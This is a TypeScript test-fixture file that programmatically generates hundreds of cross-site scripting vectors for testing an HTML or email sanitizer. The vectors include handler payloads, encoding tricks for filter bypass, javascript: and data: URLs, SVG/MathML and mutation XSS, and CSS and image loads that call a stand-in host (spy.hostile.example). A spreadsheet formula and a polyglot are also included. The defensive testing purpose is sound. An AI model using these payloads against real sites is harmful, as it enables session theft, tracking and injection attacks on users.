/** What a vector does when it runs: the tests hook `alert`. */
const call = 'alert(1)';
/** Where a vector that only loads something loads it from: nobody's host, so that a request to it is a finding. */
export const spyHost = 'spy.hostile.example';
const spy = `https://${spyHost}/x`;

/** A family of ways to run or load something from markup; each gives its own vectors. */
const families: Readonly<Record<string, () => string[]>> = {
  handlers: handlerVectors,
  writing: writtenDifferently,
  addresses: addressVectors,
  foreign: foreignContent,
  mutation: mutationVectors,
  styles: styleVectors,
  loading: loadingVectors,
  documents: documentVectors,
  contexts: contextVectors,
};

/** Hundreds of vectors in the shapes that are published, made here by combining their parts. The same at every call. */
export function xssVectors(): readonly string[] {
  return [...new Set(Object.values(families).flatMap((make) => make()))];
}

/** Those that fit into one line of 200 signs: for subjects, names of people and names of files. */
export function shortVectors(): readonly string[] {
  return xssVectors().filter((vector) => vector.length <= 200 && !/[\r\n\0]/u.test(vector));
}

const handlers =
  'onload onerror onclick ondblclick onmouseover onmouseenter onmousemove onmousedown onmouseup onmouseout onwheel onfocus onfocusin onblur onkeydown onkeypress onkeyup oninput onchange onsubmit onreset onselect oncopy oncut onpaste oncontextmenu ondrag ondragstart ondrop onscroll onscrollend onresize ontoggle onbeforetoggle onpointerdown onpointerenter onpointermove onpointerover onpointerrawupdate ontouchstart ontransitionend ontransitionrun onanimationstart onanimationiteration onanimationend onhashchange onpageshow onmessage onpopstate onbeforeunload oncanplay oncanplaythrough ondurationchange onended onloadeddata onloadedmetadata onloadstart onplay onplaying onprogress onseeked onstalled ontimeupdate onvolumechange onwaiting onauxclick onbeforecopy onbeforeinput oncuechange onformdata oninvalid onsearch onsecuritypolicyviolation onslotchange onwebkitanimationstart onbegin onend onrepeat onafterscriptexecute onstart onfinish onbounce onreadystatechange onpropertychange'.split(
    ' ',
  );
const elements =
  'a abbr article audio b body br button canvas center details dialog div embed fieldset font footer form frameset h1 header hr i iframe image img input isindex keygen label li link main marquee math menu meter nav object ol option p pre q s section select small span strong style sub summary svg table tbody td textarea tfoot th time title tr track u ul video xss custom-element'.split(
    ' ',
  );

/** Each handler on three elements, each element with two handlers. */
function handlerVectors(): string[] {
  const vectors = handlers.flatMap((handler) => [
    `<img src=x ${handler}=${call}>`,
    `<svg ${handler}=${call} tabindex=1 autofocus>`,
    `<div contenteditable ${handler}="${call}" style="animation-name:x">x</div>`,
  ]);
  return [
    ...vectors,
    ...elements.flatMap((element) => [
      `<${element} onfocus=${call} autofocus tabindex=0>x</${element}>`,
      `<${element} src=x onerror="${call}" onload="${call}">`,
    ]),
    `<body onload=${call}>`,
    `<video><source onerror=${call}></video>`,
    `<audio src onloadstart=${call}>`,
    `<details open ontoggle=${call}>`,
    `<marquee onstart=${call} loop=1>x</marquee>`,
    `<input onfocus=${call} autofocus>`,
    `<select autofocus onfocus=${call}><option>x`,
    `<a id=x tabindex=1 onbeforeactivate=${call}>`,
    `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${call}>x</div>`,
  ];
}

/** One vector in the ways by which filters are passed: case, quotes, blanks, entities, half tags, doubled tags. */
function writtenDifferently(): string[] {
  const entities = Array.from(call, (sign) => `&#${sign.charCodeAt(0)};`).join('');
  const hex = Array.from(call, (sign) => `&#x${sign.charCodeAt(0).toString(16)}`).join('');
  const padded = Array.from(call, (sign) => `&#${String(sign.charCodeAt(0)).padStart(7, '0')}`).join('');
  const blanks = [' ', '\t', '\n', '\r', '\f', '/', '//', '\u000b', '\u00a0', '%0a', '/**/'];
  return [
    ...['ImG', 'IMG', 'iMG', 'img/x', 'img//', 'ıMG', 'img\u0000'].map((name) => `<${name} sRc=x OnErRoR=${call}>`),
    ...blanks.map((blank) => `<img${blank}src=x${blank}onerror${blank}=${blank}${call}>`),
    ...['"', "'", '`', '', '""', "''"].map((quote) => `<img src=x onerror=${quote}${call}${quote}>`),
    ...[entities, hex, padded].map((code) => `<img src=x onerror="${code}">`),
    `<img src="x" x=">" onerror=${call}>`,
    `<img src='x' alt='"><img src=x onerror=${call}>'>`,
    `<img alt="a"onerror="${call}"src=x>`,
    `<img src=x onerror=${call} src=y onerror="">`,
    `<img src=x onerror=${call}//`,
    `<img src=x onerror=${call} <b>`,
    `<<img src=x onerror=${call}>>`,
    `<<script>${call}//<</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<script/x>${call}</script>`,
    `<script\n>${call}</script\n>`,
    `<script src=data:,${call}></script>`,
    `<script src="${spy}.js"></script>`,
    `<script src=//${spyHost}/x.js></script>`,
    `<SCRIPT>${call}</SCRIPT>`,
    `<script>${call}`,
    `<script x="</script>">${call}</script>`,
    `"><script>${call}</script>`,
    `'><img src=x onerror=${call}>`,
    `--><img src=x onerror=${call}>`,
    `]]><img src=x onerror=${call}>`,
    `</title><img src=x onerror=${call}>`,
    `</textarea><script>${call}</script>`,
    `</style><img src=x onerror=${call}>`,
    `</noscript><img src=x onerror=${call}>`,
    `</script><svg onload=${call}>`,
    `<\u0000script>${call}</script>`,
    `<scr\u0000ipt>${call}</scr\u0000ipt>`,
    `\u00bcscript\u00be${call}\u00bc/script\u00be`,
    `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
    `%3Cscript%3E${call}%3C/script%3E`,
    `&lt;img src=x onerror=${call}&gt;`,
    `&amp;lt;img src=x onerror=${call}&amp;gt;`,
    `\\u003cimg src=x onerror=${call}\\u003e`,
  ];
}

/** Addresses that run or hold a page, in every writing, at every place where HTML takes an address. */
function addressVectors(): string[] {
  const scheme = 'javascript:';
  const split = (by: string) => `java${by}script:`;
  const letters = Array.from(scheme, (sign) => `&#${sign.charCodeAt(0)};`).join('');
  const hexLetters = Array.from(scheme, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('');
  const writings = [
    scheme,
    'JaVaScRiPt:',
    ...['\t', '\n', '\r', '&Tab;', '&NewLine;', '&#9;', '&#10;', '&#x0D;', '\u0000', '\u0001', '&#1;', '/**/'].map(
      split,
    ),
    ...[' ', '\t', '\n', '\u0001', '\u0000', '\u00a0', '\u2028', '&#14; ', '&nbsp;', '%20', '\u200b'].map(
      (lead) => `${lead}${scheme}`,
    ),
    'javascript&colon;',
    'javascript&#58;',
    'javascript&#x3A;',
    'javascript\t:',
    'javascript\u0000:',
    '&#106;avascript:',
    '\\x6aavascript:',
    'jav&#x09;ascript:',
    letters,
    hexLetters,
    'vbscript:',
    'livescript:',
    'mocha:',
    'feed:javascript:',
    'view-source:javascript:',
    'jar:javascript:',
  ];
  const pages = [
    `data:text/html,<script>${call}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
    `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${call}</x:script>`,
    `data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>${call}</script>`,
    `DATA:text/html,${call}`,
    `data:;base64,${Buffer.from('<svg onload=alert(1)>').toString('base64')}`,
  ];
  const places = [
    ['<a href="', '">x</a>'],
    ['<iframe src="', '"></iframe>'],
    ['<form action="', '"><input type=submit></form>'],
    ['<button formaction="', '" form=x>x</button>'],
    ['<input type=image src=x formaction="', '">'],
    ['<object data="', '"></object>'],
    ['<embed src="', '">'],
    ['<img src="', '">'],
    ['<img srcset="', ' 1x">'],
    ['<img longdesc="', '">'],
    ['<img lowsrc="', '">'],
    ['<img dynsrc="', '">'],
    ['<video poster="', '"></video>'],
    ['<body background="', '">'],
    ['<table background="', '"><td background=x>'],
    ['<svg><a xlink:href="', '"><text y=20>x</text></a></svg>'],
    ['<svg><a href="', '"><rect width=99 height=99 /></a></svg>'],
    ['<svg><use href="', '#x"/></svg>'],
    ['<svg><image href="', '"/></svg>'],
    ['<math href="', '">x</math>'],
    ['<math><maction actiontype="statusline" xlink:href="', '">x</maction></math>'],
    ['<link rel=stylesheet href="', '">'],
    ['<base href="', '//">'],
    ['<meta http-equiv=refresh content="0;url=', '">'],
    ['<area href="', '" shape=rect>'],
    ['<blockquote cite="', '">x</blockquote>'],
    ['<q cite="', '">x</q>'],
    ['<applet codebase="', '">'],
    ['<frameset><frame src="', '"></frameset>'],
    ['<layer src="', '"></layer>'],
    ['<bgsound src="', '">'],
    ['<a ping="', '" href=x>x</a>'],
    ['<html manifest="', '">'],
    ['<portal src="', '"></portal>'],
    ['<track src="', '">'],
  ] as const;
  return [
    ...writings.map((writing) => `<a href="${writing}${call}">x</a>`),
    ...writings.map((writing) => `<img src="${writing}${call}">`),
    ...places.flatMap(([before, after]) => [
      `${before}javascript:${call}${after}`,
      `${before}&#x6A;ava\tscript:${call}${after}`,
    ]),
    ...pages.flatMap((page) => [
      `<a href="${page}">x</a>`,
      `<iframe src="${page}"></iframe>`,
      `<object data="${page}"></object>`,
    ]),
    ...[
      `//${spyHost}`,
      `\\\\${spyHost}`,
      `/\\${spyHost}`,
      `https:${spyHost}`,
      'file:///etc/passwd',
      'blob:null/1',
      'about:blank',
    ].map((address) => `<iframe src="${address}"></iframe><a href="${address}">x</a>`),
  ];
}

/** SVG and MathML: their own scripts, animations that set addresses, pictures inside. */
function foreignContent(): string[] {
  return [
    `<svg><script>${call}</script></svg>`,
    `<svg><script href="data:,${call}"/></svg>`,
    `<svg><script xlink:href="${spy}.js"></script></svg>`,
    `<svg><script>${call.replace('(', '&#40;')}</script></svg>`,
    `<svg/onload=${call}>`,
    `<svg\tonload=${call}>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<svg><set onbegin=${call} attributeName=x>`,
    `<svg><animatetransform onbegin=${call}>`,
    `<svg><a><animate attributeName=href values=javascript:${call} /><text x=20 y=20>x</text></a></svg>`,
    `<svg><a><set attributeName=href to=javascript:${call} /><text x=20 y=20>x</text></a></svg>`,
    `<svg><animate href=#x attributeName=href values=&#x6A;avascript:${call} /><a id=x><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x"/></svg>`,
    `<svg><use xlink:href="${spy}.svg#x"/></svg>`,
    `<svg><image href="${spy}.png"/></svg>`,
    `<svg><feImage href="${spy}.png"/></svg>`,
    `<svg><filter><feImage xlink:href="data:image/svg+xml,<svg onload='${call}'/>"/></filter></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></iframe></foreignObject></svg>`,
    `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${call}</handler></svg>`,
    `<svg><style>*{background:url(${spy})}</style></svg>`,
    `<svg><style>@import '${spy}.css';</style></svg>`,
    `<svg><title><img src=x onerror=${call}></title></svg>`,
    `<svg><desc><img src=x onerror=${call}></desc></svg>`,
    `<svg><![CDATA[><img src=x onerror=${call}>]]></svg>`,
    `<svg fill="url(${spy}#x)"><rect width=9 height=9 /></svg>`,
    `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
    `<math><mtext></mtext><img src=x onerror=${call}></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
    `<math><semantics><annotation-xml><script>${call}</script></annotation-xml></semantics></math>`,
    `<math xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type=simple xlink:href=javascript:${call}>x</math>`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
    `<?xml version="1.0"?><html><script xmlns="http://www.w3.org/1999/xhtml">${call}</script></html>`,
    `<?xml-stylesheet href="javascript:${call}"?>`,
    `<!ENTITY x "<script>${call}</script>">&x;`,
  ];
}

/** Markup that means another thing when it is read a second time: every container around every hidden picture. */
function mutationVectors(): string[] {
  const picture = `<img src=x onerror=${call}>`;
  const containers = [
    'noscript',
    'noembed',
    'noframes',
    'xmp',
    'plaintext',
    'textarea',
    'title',
    'style',
    'script',
    'iframe',
    'template',
    'listing',
    'option',
    'select',
    'math',
    'svg',
    'mtext',
    'mglyph',
    'desc',
    'foreignObject',
    'annotation-xml',
  ];
  return [
    ...containers.flatMap((name) => [
      `<${name}>${picture}</${name}>`,
      `<${name}><p title="</${name}>${picture}">`,
      `<svg><${name}><!--</${name}>${picture}-->`,
      `<math><mtext><${name}><style></${name}>${picture}`,
    ]),
    `<form><math><mtext></form><form><mglyph><style></math>${picture}`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
    `<svg></p><style><a id="</style>${picture}">`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${picture}">`,
    `<table><td><svg><desc><td></desc><style><title></svg>${picture}`,
    `<a href="x">${'<div>'.repeat(50)}<table>${picture}</table></a>`,
    `<p><svg><br></p><style>${picture}</style>`,
    `<!--><img src=x onerror=${call}>-->`,
    `<!--!>${picture}-->`,
    `<!-- --!>${picture} -->`,
    `<!--${picture}-->`,
    `<!---->${picture}`,
    `<!-`.concat(picture, '->'),
    `<!doctype x [${picture}]>`,
    `<!x ${picture}>`,
    `<?${picture}?>`,
    `</ ${picture}>`,
    `</x ${picture}`,
    `<%${picture}%>`,
    `<![if]>${picture}<![endif]>`,
    `<!--[if gte IE 4]>${picture}<![endif]-->`,
    `<comment>${picture}</comment>`,
    `<img src="<img src=x onerror=${call}>">`,
    `<b <script>${call}</script>0`,
    `<div id="</div>${picture}">`,
    `<a title="a&quot;&gt;${picture}">x</a>`,
    `<x${'a'.repeat(300)} ${'b'.repeat(300)}=1 onclick=${call}>x`,
    `<form id=document><input name=cookie><input name=getElementById></form>`,
    `<a id=__proto__ name=constructor href=javascript:${call}>x</a>`,
    `<img name=body><img name=head><form name=documentElement>`,
  ];
}

function styleVectors(): string[] {
  const rules = [
    `background:url(${spy})`,
    `background:url('${spy}')`,
    `background:u\\72l(${spy})`,
    `background-image:image-set("${spy}" 1x)`,
    `list-style:url(${spy})`,
    `cursor:url(${spy}),auto`,
    `content:url(${spy})`,
    `border-image:url(${spy}) 30`,
    `width:expression(${call})`,
    `xss:expr/**/ession(${call})`,
    `behavior:url(${spy})`,
    `-moz-binding:url(${spy}#x)`,
    `background:url(javascript:${call})`,
    `position:fixed;inset:0;z-index:9999;background:#fff`,
    `--x:url(${spy});background:var(--x)`,
    `filter:url(${spy}#x)`,
    `mask:url(${spy})`,
    `@import '${spy}'`,
  ];
  return [
    ...rules.flatMap((rule) => [
      `<p style="${rule}">x</p>`,
      `<style>p{${rule}}</style><p>x</p>`,
      `<div STYLE='${rule}'>x</div>`,
    ]),
    `<style>@import '${spy}.css';</style>`,
    `<style>@import url(${spy}.css);</style>`,
    `<style>@font-face{font-family:x;src:url(${spy})}*{font-family:x}</style>`,
    `<style>input[value^=a]{background:url(${spy})}</style>`,
    `<link rel=stylesheet href="${spy}.css">`,
    `<link rel=stylesheet href="data:text/css,*{background:url(${spy})}">`,
    `<style></style><script>${call}</script>`,
    `<style><img src="</style><img src=x onerror=${call}//">`,
  ];
}

/** Nothing runs, but something is fetched: the sender learns that, when and where the mail was opened. */
function loadingVectors(): string[] {
  const relations = [
    'prefetch',
    'preload',
    'prerender',
    'dns-prefetch',
    'preconnect',
    'modulepreload',
    'icon',
    'manifest',
    'import',
    'next',
    'pingback',
    'alternate stylesheet',
  ];
  return [
    ...relations.map((relation) => `<link rel="${relation}" href="${spy}" as=image>`),
    `<img src="${spy}.png">`,
    `<img src="//${spyHost}/x.png">`,
    `<img src="HTTP://${spyHost}/x.png">`,
    `<img src=" https://${spyHost}/x.png">`,
    `<img src="ht\ntps://${spyHost}/x.png">`,
    `<img srcset="${spy}.png 1x, ${spy}2.png 2x">`,
    `<img src=x srcset="data:,a ${spy} 1x">`,
    `<picture><source srcset="${spy}.webp"><img src=x></picture>`,
    `<video src="${spy}.mp4" autoplay></video>`,
    `<video poster="${spy}.png"></video>`,
    `<video><source src="${spy}.mp4"></video>`,
    `<audio src="${spy}.mp3" autoplay></audio>`,
    `<video><track default src="${spy}.vtt"></video>`,
    `<input type=image src="${spy}.png">`,
    `<body background="${spy}.png">`,
    `<table background="${spy}.png"><tr><td background="${spy}.png">x</td></tr></table>`,
    `<iframe src="${spy}"></iframe>`,
    `<frameset><frame src="${spy}"></frameset>`,
    `<object data="${spy}.swf"></object>`,
    `<object><param name=src value="${spy}"></object>`,
    `<embed src="${spy}.swf">`,
    `<applet code=x archive="${spy}.jar"></applet>`,
    `<bgsound src="${spy}.mid">`,
    `<isindex type=image src="${spy}.png">`,
    `<a href="https://x.example/" ping="${spy}">x</a>`,
    `<script src="${spy}.js"></script>`,
    `<script type=module src="${spy}.mjs"></script>`,
    `<script type=importmap>{"imports":{"x":"${spy}"}}</script>`,
    `<form action="${spy}" id=f><input name=a></form><script>f.submit()</script>`,
    `<meta http-equiv=refresh content="0;url=${spy}">`,
    `<meta http-equiv="Set-Cookie" content="a=b">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<base href="https://${spyHost}/"><img src=x.png>`,
    `<base target=_top><a href="${spy}">x</a>`,
    `<html manifest="${spy}">`,
    `<svg><image xlink:href="${spy}.png"/></svg>`,
  ];
}

/** Whole documents inside. */
function documentVectors(): string[] {
  return [
    `<iframe srcdoc="<script>${call}</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
    `<iframe srcdoc='<img src=x onerror=parent.${call}>'></iframe>`,
    `<html><head><script>${call}</script></head><body onload=${call}>x</body></html>`,
    `<head><base href="javascript:/"></head><a href="/x/#${call}">x</a>`,
    `<object type="text/x-scriptlet" data="${spy}"></object>`,
    `<object classid="clsid:x"><param name=url value=javascript:${call}></object>`,
    `<fencedframe src="${spy}"></fencedframe>`,
    `<dialog open><form method=dialog action=javascript:${call}><button>x</button></form></dialog>`,
    `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
    `<div><template shadowrootmode=open><slot></slot><script>${call}</script></template></div>`,
    `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${call}</script></svg>`).toString('base64')}">`,
  ];
}

/** Text that is harmless as HTML and runs where it is put into something else. */
function contextVectors(): string[] {
  return [
    `';${call}//`,
    `";${call}//`,
    `\`;${call}//`,
    `'-${call}-'`,
    `"-${call}-"`,
    `\\";${call}//`,
    `</script><script>${call}</script>`,
    `<!--<script>${call}//-->`,
    `\${${call}}`,
    `{{constructor.constructor('${call}')()}}`,
    `{{$on.constructor('${call}')()}}`,
    `#{${call}}`,
    `<%= ${call} %>`,
    `[[${call}]]`,
    `{%raw%}${call}`,
    `javascript:${call}`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`,
    `" autofocus onfocus=${call} x="`,
    `' autofocus onfocus=${call} x='`,
    ` onfocus=${call} autofocus `,
    `x" onerror="${call}`,
    `x' onerror='${call}`,
    `%22%3E%3Cimg%20src=x%20onerror=${call}%3E`,
    `\u2028${call}\u2029`,
    `\u202e>(1)trela=rorreno x=crs gmi<`,
    `[x](javascript:${call})`,
    `![x](x"onerror="${call})`,
    `=HYPERLINK("${spy}","x")`,
    `=1+1`,
    `@SUM(1+1)`,
  ];
}
